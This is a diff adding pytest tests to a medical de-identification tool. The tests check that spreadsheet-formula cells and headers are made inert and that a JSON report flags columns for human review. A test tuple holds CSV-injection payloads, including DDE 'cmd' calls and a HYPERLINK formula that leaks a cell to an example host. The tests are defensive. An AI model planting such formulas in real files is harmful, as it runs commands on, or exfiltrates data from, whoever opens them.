@@ -11,8 +11,10 @@ import pandas as pd
 import pytest
 from typer.testing import CliRunner
 
+from deid.hard_table import make_hard, surviving
 from deid.synthetic import CLINICAL_WORDS, Identified
 from medserve.cli import app
+from medserve.deid import DeidReport
 
 runner = CliRunner()
 CLINICAL_COLUMNS = ["sex", "glucose", "systolic_bp", "diagnosis"]
@@ -261,3 +263,69 @@ def test_keeping_an_identifier_is_said_loudly_and_in_the_report(tmp_path, home, 
     assert "SSN" in result.stderr and "NOT HIPAA Safe Harbor" in result.stdout
     report = json.loads((tmp_path / "clean.deid.json").read_text())
     assert report["safe_harbor"] is False and report["kept_identifiers"] == ["SSN"]
+
+
+# Cells a spreadsheet would run (OWASP CSV injection), each written first in a text cell.
+FORMULA_PAYLOADS = (
+    "=1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org/?leak="&A1,"open")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+)
+PLAIN_NUMBERS = ("-5", "+2.5", "-1e3", "42")
+
+
+def read_cells(path: Path) -> pd.DataFrame:
+    return pd.read_csv(path, dtype=str, keep_default_na=False)
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_deid_output_cells_that_a_spreadsheet_would_run_are_made_inert(tmp_path, home, payload):
+    data = tmp_path / "visits.csv"
+    frame = pd.DataFrame(
+        {"ward": ["ICU", payload, "5 North", "ICU"], "delta": [*PLAIN_NUMBERS], "glucose": "5.5"}
+    )
+    frame.to_csv(data, index=False, lineterminator="\r\n")  # CRLF: the CR cell is quoted
+    assert run(data, "-o", tmp_path / "clean.csv").exit_code == 0
+    clean = read_cells(tmp_path / "clean.csv")
+    assert len(clean) == 4  # a carriage return in a cell does not start a new row
+    assert clean["ward"].tolist() == ["ICU", "'" + payload, "5 North", "ICU"]
+    assert clean["delta"].tolist() == list(PLAIN_NUMBERS)  # numbers, negative ones too, stay
+    raw = run(data, "-o", tmp_path / "raw.csv", "--raw-cells")
+    assert raw.exit_code == 0, raw.output
+    assert read_cells(tmp_path / "raw.csv")["ward"].tolist() == frame["ward"].tolist()
+    assert run(data, "-o", tmp_path / "clean.parquet").exit_code == 0
+    assert pd.read_parquet(tmp_path / "clean.parquet")["ward"].tolist() == frame["ward"].tolist()
+
+
+def test_a_header_a_spreadsheet_would_run_is_made_inert_too(tmp_path, home):
+    data = tmp_path / "visits.csv"
+    pd.DataFrame({"=1+1": ["a", "b"], "glucose": ["5.5", "6.1"]}).to_csv(data, index=False)
+    assert run(data, "-o", tmp_path / "clean.csv").exit_code == 0
+    assert list(read_cells(tmp_path / "clean.csv").columns) == ["'=1+1", "glucose"]
+
+
+def test_the_report_file_is_typed_and_flags_what_a_person_must_review(tmp_path, home):
+    hard = make_hard(patients=6, visits=5, seed=2)
+    phone = "(555) 201-3344"
+    frame = hard.frame.assign(status=["stable"] * 27 + [phone] * 3)
+    data = tmp_path / "visits.csv"
+    frame.to_csv(data, index=False)
+    result = run(data, "-o", tmp_path / "clean.csv", "--report")
+    assert result.exit_code == 0, result.output
+    written = (tmp_path / "clean.deid.json").read_text()
+    report = DeidReport.model_validate_json(written)
+    assert report.safe_harbor is False
+    assert [(flag.column, flag.reason, flag.kind) for flag in report.review] == [
+        ("note", "scrubbed_text", None),
+        ("status", "identifier_values", "phone"),
+    ]
+    assert "WARNING: the output is NOT HIPAA Safe Harbor" in result.stderr
+    assert "status (values that look like identifiers)" in result.stderr
+    assert "REVIEW" in result.stdout
+    assert phone not in written + result.output
+    assert surviving(read_back(tmp_path / "clean.csv"), hard) == []
